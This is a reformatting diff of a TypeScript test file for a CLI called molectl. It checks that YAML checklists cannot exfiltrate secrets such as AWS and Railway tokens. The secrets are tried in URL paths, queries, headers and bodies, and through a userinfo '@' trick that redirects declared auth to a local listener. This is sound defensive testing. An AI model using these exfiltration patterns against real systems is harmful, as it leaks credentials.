@@ -63,23 +63,72 @@ function write(name: string, lines: string[]): string {
 }
 
 function molectl(args: string[], env: Record<string, string> = {}) {
-  return runCli(args, { env: { ...sandbox.env, AWS_SECRET_ACCESS_KEY: AWS_SENTINEL, RAILWAY_TOKEN: RAILWAY_SENTINEL, MOLECTL_STATE_DIR: tmp, ...env } });
+  return runCli(args, {
+    env: {
+      ...sandbox.env,
+      AWS_SECRET_ACCESS_KEY: AWS_SENTINEL,
+      RAILWAY_TOKEN: RAILWAY_SENTINEL,
+      MOLECTL_STATE_DIR: tmp,
+      ...env,
+    },
+  });
 }
 
 function checklist(vars: string[], request: string[]): string[] {
-  return [`vars: [${vars.join(', ')}]`, 'builtins: none', 'checks:', '  - id: steal', '    request:', ...request.map((l) => `      ${l}`), '    conditions: ["[STATUS] == 200"]'];
+  return [
+    `vars: [${vars.join(', ')}]`,
+    'builtins: none',
+    'checks:',
+    '  - id: steal',
+    '    request:',
+    ...request.map((l) => `      ${l}`),
+    '    conditions: ["[STATUS] == 200"]',
+  ];
 }
 
 describe('a checklist cannot exfiltrate', () => {
   // [form, file lines, the line:column --validate names]
   const cases: Array<[string, () => string[], string]> = [
-    ['a secret in the URL path', () => checklist(['CP_ADMIN_API_TOKEN'], [`url: "${listenerUrl}/x/\${CP_ADMIN_API_TOKEN}"`]), ':6:'],
-    ['a secret in the query', () => checklist(['CP_ADMIN_API_TOKEN'], [`url: "${listenerUrl}/health?t=\${CP_ADMIN_API_TOKEN}"`]), ':6:'],
-    ['a secret in a custom header', () => checklist(['AWS_SECRET_ACCESS_KEY'], [`url: "${listenerUrl}/h"`, 'headers:', '  X-Debug: "${AWS_SECRET_ACCESS_KEY}"']), ':8:19:'],
-    ['a secret in the body', () => checklist(['RAILWAY_TOKEN'], [`url: "${listenerUrl}/b"`, 'method: POST', 'body: { t: "${RAILWAY_TOKEN}" }']), ':8:'],
-    ['an Authorization header of its own', () => checklist([], [`url: "${listenerUrl}/a"`, 'headers:', '  Authorization: "Bearer abc"']), ':8:9:'],
-    ['the declared auth sent to another origin', () => checklist([], [`url: "${listenerUrl}/cp/admin/orgs"`, 'auth: cp-admin']), ':6:'],
-    ['the declared auth after a userinfo trick', () => checklist([], [`url: "\${CP_URL}@127.0.0.1:${new URL(listenerUrl).port}/x"`, 'auth: cp-admin']), ':6:'],
+    [
+      'a secret in the URL path',
+      () => checklist(['CP_ADMIN_API_TOKEN'], [`url: "${listenerUrl}/x/\${CP_ADMIN_API_TOKEN}"`]),
+      ':6:',
+    ],
+    [
+      'a secret in the query',
+      () => checklist(['CP_ADMIN_API_TOKEN'], [`url: "${listenerUrl}/health?t=\${CP_ADMIN_API_TOKEN}"`]),
+      ':6:',
+    ],
+    [
+      'a secret in a custom header',
+      () =>
+        checklist(
+          ['AWS_SECRET_ACCESS_KEY'],
+          [`url: "${listenerUrl}/h"`, 'headers:', '  X-Debug: "${AWS_SECRET_ACCESS_KEY}"'],
+        ),
+      ':8:19:',
+    ],
+    [
+      'a secret in the body',
+      () =>
+        checklist(['RAILWAY_TOKEN'], [`url: "${listenerUrl}/b"`, 'method: POST', 'body: { t: "${RAILWAY_TOKEN}" }']),
+      ':8:',
+    ],
+    [
+      'an Authorization header of its own',
+      () => checklist([], [`url: "${listenerUrl}/a"`, 'headers:', '  Authorization: "Bearer abc"']),
+      ':8:9:',
+    ],
+    [
+      'the declared auth sent to another origin',
+      () => checklist([], [`url: "${listenerUrl}/cp/admin/orgs"`, 'auth: cp-admin']),
+      ':6:',
+    ],
+    [
+      'the declared auth after a userinfo trick',
+      () => checklist([], [`url: "\${CP_URL}@127.0.0.1:${new URL(listenerUrl).port}/x"`, 'auth: cp-admin']),
+      ':6:',
+    ],
     ['an undeclared variable', () => checklist([], [`url: "${listenerUrl}/u?h=\${HOME}"`]), ':6:'],
   ];
 
@@ -117,7 +166,13 @@ describe('a checklist cannot exfiltrate', () => {
   });
 
   it('auth: cp-admin reaches the CP, and only the CP', async () => {
-    const file = write('auth.yaml', ['builtins: none', 'checks:', '  - id: admin-orgs', '    request: { url: "${CP_URL}/cp/admin/orgs", auth: cp-admin }', '    conditions: ["[STATUS] == 200", "[BODY] contains orgs"]']);
+    const file = write('auth.yaml', [
+      'builtins: none',
+      'checks:',
+      '  - id: admin-orgs',
+      '    request: { url: "${CP_URL}/cp/admin/orgs", auth: cp-admin }',
+      '    conditions: ["[STATUS] == 200", "[BODY] contains orgs"]',
+    ]);
     const r = await molectl(['verify', '--checklist', file, '-o', 'json']);
     expect(r.code).toBe(0);
     expect(JSON.parse(r.stdout).checks[0]).toMatchObject({ id: 'admin-orgs', status: 'pass' });
